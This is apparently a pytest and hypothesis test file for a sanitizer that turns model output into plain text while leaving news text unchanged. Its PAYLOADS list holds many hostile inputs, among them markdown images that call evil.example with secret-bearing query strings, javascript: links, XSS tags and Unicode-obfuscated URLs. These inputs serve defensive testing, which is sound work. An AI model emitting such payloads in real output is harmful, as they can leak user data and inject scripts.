"""Whatever a model says is plain text: no address, no image, no markup; news stays as it is."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from assistant.cite.citer import harmless
from tests.harm import PLAIN, harms, markdown
from tests.work import seconds_of_work

PAYLOADS = [
    # images and links of Markdown
    "![a](https://evil.example/a.png)",
    "![a](//evil.example/a.png)",
    "![a](evil.example/a.png?q=secret)",
    "![a][b]\n\n[b]: https://evil.example/a.png",
    "![a][]\n\n[a]: <https://evil.example/a.png>",
    "![a]\n\n[a]:\nhttps://evil.example/a.png",
    "[![a](https://evil.example/a.png)](https://evil.example/)",
    "[text](https://evil.example)",
    "[text](<https://evil.example> \"title\")",
    "[text](javascript:alert(1))",
    "[text](JaVaScRiPt:alert(1))",
    "[text]( javascript:alert(1) )",
    "[text](data:text/html;base64,PHNjcmlwdD4=)",
    "[text](/relative/path)",
    "[text](evil.example)",
    "[1](evil.example)",
    "[text][r]\n\n[r]: evil.example",
    "[text]: evil.example 'title'",
    "!\u200b[a]\u200b(https://evil.example/a.png)",
    "!\u2060[a](\u2060evil.example)",
    "[text]\u200d(evil.example)",
    "[text]\u00ad(evil.example)",
    # addresses
    "See https://evil.example/path?q=1#f.",
    "See HTTPS://EVIL.EXAMPLE",
    "See //evil.example/x",
    "See https:evil.example",
    "See https:/evil.example",
    "See https:\\\\evil.example\\x",
    "See https:%2F%2Fevil.example",
    "See ftp://evil.example/x and ws://evil.example",
    "See www.evil.example",
    "See WWW.evil.example.",
    "See _www.evil.example_ and *www.evil.example*",
    "See evil.example/path and evil.example:8080/path",
    "See xn--evl-hla.example/path",
    "See evil.xn--p1ai/path",
    "See злой.рф/путь",
    "See http://127.0.0.1:8000/x and 127.0.0.1/x and 10.0.0.1:80/x",
    "See http://[::1]/x and http://2130706433/ and http://0x7f.1/",
    "See https://user:password@evil.example/",
    "Write to mallory@evil.example or mailto:mallory@evil.example",
    "Call tel:+15550100",
    "file:///etc/passwd and vbscript:msgbox and blob:x",
    "<https://evil.example>",
    "<mallory@evil.example>",
    "hhttp://ttp://evil.example",
    "htthttps://x ps://evil.example",
    # letters that only look plain, or are not seen at all
    "ｈｔｔｐｓ：／／evil.example",
    "https：／／evil.example",
    "https:／／evil.example",
    "ｗｗｗ．evil．example",
    "ⓦⓦⓦ.evil.example",
    "www․evil.example",
    "𝐡𝐭𝐭𝐩𝐬://evil.example",
    "h\u200bt\u200bt\u200bp\u200bs\u200b:\u200b/\u200b/evil.example",
    "ht\u00adtps:/\u2060/evil.example",
    "www\ufeff.evil.example",
    "java\u200bscript\u200b:alert(1)",
    "\u202ehttps://evil.example\u202c",
    "https://evil\u202e.example/gpj.x",
    "\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\",
    "ht\x00tps://evil.example",
    "ht\rtps://evil.example",
    # character references
    "&#x68;ttps://evil.example",
    "&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;evil.example",
    "https&colon;&sol;&sol;evil.example",
    "&amp;#x68;ttps&amp;colon;//evil.example",
    "&amp;amp;lt;img src=x onerror=alert(1)&amp;amp;gt;",
    "&amp;amp;amp;amp;amp;lt;script&amp;amp;amp;amp;amp;gt;",
    "&lt;img src=&quot;evil.example/a.png&quot;&gt;",
    "&excl;&lbrack;a&rbrack;&lpar;evil.example&rpar;",
    "&#x200b;!&#x200b;[a](evil.example)",
    # tags
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/a.png'>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert(1)>",
    "<iframe src='//evil.example'></iframe>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<a href='https://evil.example'>text</a>",
    "<a href=evil.example>text</a>",
    "<form action=//evil.example><input name=q></form>",
    "<img src=x",
    "< img src=x >",
    "<\nimg src=x>",
    "</p><img src=x>",
    "<!-- <img src=x> --> <![CDATA[<img src=x>]]>",
    "＜img src=x＞",
    # code, thoughts
    "```html\n<img src=x>\n```",
    "`<img src=x>` and ``![a](evil.example)``",
    "~~~\n![a](https://evil.example)\n~~~",
    "<think>https://evil.example</think>![a](https://evil.example)",
    "<THINK><img src=x>",
    "</think><img src=x>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_and_all_their_beginnings_become_plain_text(payload: str) -> None:
    beginnings = (payload[:end] for end in range(len(payload) + 1))
    for text in (f"Before it. {payload} After it.", *beginnings):
        shown = harmless(text)
        assert harms(shown) == [], (text, shown)
        assert "evil.example/" not in shown
        assert markdown(shown).tags <= PLAIN


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


PARTS = st.sampled_from(
    ["!", "[", "]", "(", ")", "<", ">", "&", "#", ";", "lt", "amp", "colon", "sol", "x68", ":", "/",
     "//", "ht", "tps", "http", "www", ".", "evil.example", "@", "java", "script", "data", "think",
     "</", "\u200b", "\u200d", "\u202e", "ｈ", "：", "／", "é", " ", "\n", "`", "img src=x", "\\"]
)  # fmt: skip


@settings(max_examples=600, deadline=None)
@given(st.one_of(st.lists(PARTS, max_size=24).map("".join), st.text(max_size=60)))
@example("www\u200d.evil")
@example("é\u200dhttps:\u200d//evil")
def test_any_text_becomes_plain_text_once_and_for_all(text: str) -> None:
    shown = harmless(text)
    assert harms(shown) == []
    assert harmless(shown) == shown
    assert markdown(shown).tags <= PLAIN


NEWS = [
    "The fare rose by $5, or 3,5 per cent, at 10:30 on Monday; a 2:1 win.",
    "The U.S. and the E.U. met AT&T, H&M and Q&A guests, and/or others, 24/7.",
    "Amazon.com, Node.js and Booking.com said they would pay by 1/2/2023.",
    "He said: “It's over.” She asked: ‘Why?’ — nobody knew (yet) [sic].",
    "The score was 3-1 (1-0); temperatures fell to -5 °C, about 23 °F.",
    "At 5 p.m. Gen. Lee, Sgt. Doe and St. John's No. 1 came from Washington, D.C.",
    "A @handle, a #hashtag, 50% of £3.5m, €1.2bn, ¥300 and 1,000,000 people.",
    "It reads [1] and [2, 3], says The Post [4].",
    "Zoë, Łukasz, Ødegård, Erdoğan and the naïve café in São Tomé.",
    "Гавань в Осло открылась в мае; цена 1,5 млн руб.",
    "港口于五月重新开放：“很好！”（新华社）",
    "بازگشایی بندر می‌خواهم نمی‌شود",
    "क्‍ष और श्री",
    "A family 👨‍👩‍👧 and a flag 🏳️‍🌈 ❤️.",
    "Line one.\n\nLine two.\n- a list\n1. another",
    "Data: nobody has any. File: closed. Tel: none.",
    "R2-D2 met C-3PO at 192.168 Main Street, version 1.2.3.",
    "The metadata:fields and a profile were kept.",
    "*Emphasis* and _stress_ and ~doubt~ | columns | 2^10 = 1024 + x.",
]


@pytest.mark.parametrize("text", NEWS)
def test_news_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


NEWS_WORDS = st.sampled_from([word for text in NEWS for word in text.split(" ") if "<" not in word])


@settings(max_examples=300, deadline=None)
@given(st.lists(NEWS_WORDS, max_size=40).map(" ".join))
def test_news_of_any_words_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See https://evil.example/x for more.", "See  for more."),
        ("<think>Hm.</think>The mayor.", "The mayor."),
        ("<think>Hm.", ""),
        ("Shares of A &amp; B rose.", "Shares of A & B rose."),
        ("2 < 3 > 1", "2 ‹ 3 › 1"),
        ("Wow![1]", "Wow[1]"),
    ],
)
def test_what_is_left(text: str, shown: str) -> None:
    assert harmless(text) == shown


@pytest.mark.parametrize(
    "piece", ["a", "a.", " ", "-", "[", "](", "&amp;", "<think>", "1.", "é", "a@", "www", "\n"]
)
def test_a_model_that_repeats_itself_costs_no_more_than_its_length(piece: str) -> None:
    text, shown = piece * (60_000 // len(piece)), ""

    def show() -> None:
        nonlocal shown
        shown = harmless(text)

    assert seconds_of_work(show) < 1  # it is .05
    assert len(shown) <= 120_000
